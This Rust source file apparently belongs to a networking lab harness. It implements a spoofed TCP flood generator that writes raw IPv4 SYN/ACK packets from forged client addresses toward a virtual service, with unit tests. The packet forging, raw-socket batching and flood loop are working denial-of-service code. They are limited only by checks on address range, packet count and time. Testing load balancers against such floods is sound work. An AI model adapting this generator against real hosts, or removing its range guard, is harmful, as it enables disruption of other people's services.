//! A spoofed TCP flood generator for the lab: SYN + blind ACK pairs, or
//! every SYN twice with two sequence numbers, from many forged client
//! addresses toward a virtual service. Run it inside the client namespace
//! (`netns::run_in`); it writes whole IPv4 packets on a raw IP socket
//! (`IP_HDRINCL`: the source address is the one written, the kernel routes
//! the packet and fills the IP checksum), in `sendmmsg` batches.
//!
//! Bounded twice: it stops after [`Spec::pairs`] pairs or [`Spec::max_time`],
//! whichever comes first, and it refuses any destination or source outside
//! the documentation ranges the lab uses.

use std::io;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// What each forged client sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A SYN, then an ACK that acknowledges nothing the server sent (a
    /// "SYN+ACK flood": in DR/TUN the director sees a completed handshake).
    SynAck,
    /// The same SYN twice, with different sequence numbers.
    SynTwice,
}

/// A flood.
#[derive(Debug, Clone)]
pub struct Spec {
    /// The virtual service.
    pub vip: Ipv4Addr,
    pub vport: u16,
    /// Forged sources: `sources` consecutive addresses from `src_base`;
    /// each address uses ports 1024..65535 before the next is taken.
    pub src_base: Ipv4Addr,
    pub sources: u32,
    pub kind: Kind,
    /// Forged clients (each sends two packets).
    pub pairs: u64,
    /// Stop after this long even if not all pairs were sent.
    pub max_time: Duration,
    /// Varies the sequence numbers.
    pub seed: u32,
}

/// What was sent.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Report {
    pub pairs: u64,
    pub packets: u64,
    /// Packets the socket refused (buffer full: retried once, then counted).
    pub refused: u64,
    pub elapsed: Duration,
}

const PORTS: u32 = 65535 - 1024;
const LEN: usize = 40;
const BATCH: usize = 64;

fn lab_addr(a: Ipv4Addr) -> bool {
    let o = a.octets();
    matches!(o, [198, 51, 100, _] | [203, 0, 113, _] | [192, 0, 2, _])
}

/// Forged client `i`: address and port.
pub fn client(spec: &Spec, i: u64) -> (Ipv4Addr, u16) {
    let n = (i % (spec.sources as u64 * PORTS as u64)) as u32;
    let addr = Ipv4Addr::from(u32::from(spec.src_base) + n / PORTS);
    (addr, 1024 + (n % PORTS) as u16)
}

fn sum16(mut acc: u32, b: &[u8]) -> u32 {
    for c in b.chunks(2) {
        acc += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// One IPv4 + TCP packet (no options, no payload).
fn packet(out: &mut [u8; LEN], src: Ipv4Addr, sport: u16, spec: &Spec, seq: u32, ack: u32, fl: u8) {
    out.fill(0);
    out[0] = 0x45;
    out[2..4].copy_from_slice(&(LEN as u16).to_be_bytes());
    out[6] = 0x40; // DF
    out[8] = 64;
    out[9] = 6;
    out[12..16].copy_from_slice(&src.octets());
    out[16..20].copy_from_slice(&spec.vip.octets());
    let t = &mut out[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&spec.vport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[8..12].copy_from_slice(&ack.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = fl;
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut acc = sum16(0, &src.octets());
    acc = sum16(acc, &spec.vip.octets());
    acc += 6 + 20;
    let c = fold(sum16(acc, &out[20..]));
    out[36..38].copy_from_slice(&c.to_be_bytes());
}

/// Sends the flood; returns what was sent.
pub fn flood(spec: &Spec) -> io::Result<Report> {
    let last = Ipv4Addr::from(u32::from(spec.src_base).saturating_add(spec.sources.max(1) - 1));
    if !lab_addr(spec.vip) || !lab_addr(spec.src_base) || !lab_addr(last) || spec.sources == 0 {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            "flood: addresses must be inside the lab's documentation ranges",
        ));
    }
    // SAFETY: socket(2) has no memory-safety preconditions.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fd is a fresh descriptor nobody else owns.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let start = Instant::now();
    let mut r = Report::default();
    let mut bufs = [[0u8; LEN]; BATCH];
    let mut dst: libc::sockaddr_in = unsafe_zeroed_sockaddr();
    dst.sin_family = libc::AF_INET as libc::sa_family_t;
    dst.sin_addr.s_addr = u32::from(spec.vip).to_be();
    let mut i = 0u64;
    while i < spec.pairs && start.elapsed() < spec.max_time {
        let pairs = ((spec.pairs - i) as usize).min(BATCH / 2);
        for k in 0..pairs {
            let (src, sport) = client(spec, i + k as u64);
            let seq = ((i + k as u64) as u32).wrapping_mul(2_654_435_761) ^ spec.seed;
            let (a, b) = bufs.split_at_mut(2 * k + 1);
            let first = &mut a[2 * k];
            let second = &mut b[0];
            packet(first, src, sport, spec, seq, 0, 0x02);
            match spec.kind {
                Kind::SynAck => packet(
                    second,
                    src,
                    sport,
                    spec,
                    seq.wrapping_add(1),
                    seq ^ 0x5a5a_5a5a,
                    0x10,
                ),
                Kind::SynTwice => packet(second, src, sport, spec, seq ^ 0x4000_0000, 0, 0x02),
            }
        }
        let n = pairs * 2;
        let sent = send_batch(fd.as_raw_fd(), &mut bufs[..n], &mut dst)?;
        r.packets += sent as u64;
        r.refused += (n - sent) as u64;
        r.pairs += pairs as u64;
        i += pairs as u64;
    }
    r.elapsed = start.elapsed();
    Ok(r)
}

fn unsafe_zeroed_sockaddr() -> libc::sockaddr_in {
    // SAFETY: sockaddr_in is plain old data; all-zero is a valid value.
    unsafe { std::mem::zeroed() }
}

/// One `sendmmsg` of `bufs` to `dst`; a full socket buffer waits briefly
/// and retries once. Returns the packets the kernel took.
fn send_batch(fd: i32, bufs: &mut [[u8; LEN]], dst: &mut libc::sockaddr_in) -> io::Result<usize> {
    let mut iov: Vec<libc::iovec> = bufs
        .iter_mut()
        .map(|b| libc::iovec {
            iov_base: b.as_mut_ptr().cast(),
            iov_len: LEN,
        })
        .collect();
    // SAFETY: mmsghdr is plain old data; all-zero is a valid value.
    let mut msgs: Vec<libc::mmsghdr> = (0..iov.len())
        .map(|_| unsafe { std::mem::zeroed() })
        .collect();
    for (m, v) in msgs.iter_mut().zip(iov.iter_mut()) {
        m.msg_hdr.msg_name = (dst as *mut libc::sockaddr_in).cast();
        m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
        m.msg_hdr.msg_iov = v;
        m.msg_hdr.msg_iovlen = 1;
    }
    let mut done = 0usize;
    let mut retried = false;
    while done < msgs.len() {
        // SAFETY: msgs[done..] are initialised headers whose name and iovec
        // point at `dst` and `bufs`, which outlive this call.
        let n =
            unsafe { libc::sendmmsg(fd, msgs[done..].as_mut_ptr(), (msgs.len() - done) as u32, 0) };
        if n < 0 {
            let e = io::Error::last_os_error();
            match e.raw_os_error() {
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) if !retried => {
                    retried = true;
                    std::thread::sleep(Duration::from_millis(1));
                    continue;
                }
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) => return Ok(done),
                _ => return Err(e),
            }
        }
        done += n as usize;
    }
    Ok(done)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec() -> Spec {
        Spec {
            vip: Ipv4Addr::new(192, 0, 2, 10),
            vport: 80,
            src_base: Ipv4Addr::new(198, 51, 100, 128),
            sources: 100,
            kind: Kind::SynAck,
            pairs: 10,
            max_time: Duration::from_secs(1),
            seed: 1,
        }
    }

    #[test]
    fn clients_walk_ports_then_addresses() {
        let s = spec();
        assert_eq!(client(&s, 0), (Ipv4Addr::new(198, 51, 100, 128), 1024));
        assert_eq!(
            client(&s, PORTS as u64),
            (Ipv4Addr::new(198, 51, 100, 129), 1024)
        );
        assert_eq!(client(&s, 100 * PORTS as u64), client(&s, 0));
    }

    #[test]
    fn packets_carry_a_valid_tcp_checksum() {
        let s = spec();
        let mut b = [0u8; LEN];
        packet(
            &mut b,
            Ipv4Addr::new(198, 51, 100, 130),
            4000,
            &s,
            7,
            0,
            0x02,
        );
        let mut acc = sum16(0, &b[12..20]);
        acc += 6 + 20;
        assert_eq!(fold(sum16(acc, &b[20..])), 0);
        assert_eq!(b[33], 0x02);
    }

    #[test]
    fn refuses_addresses_outside_the_lab() {
        let s = Spec {
            vip: Ipv4Addr::new(10, 0, 0, 1),
            ..spec()
        };
        assert!(flood(&s).is_err());
        let s = Spec {
            src_base: Ipv4Addr::new(198, 51, 100, 250),
            ..spec()
        };
        assert!(flood(&s).is_err());
    }
}
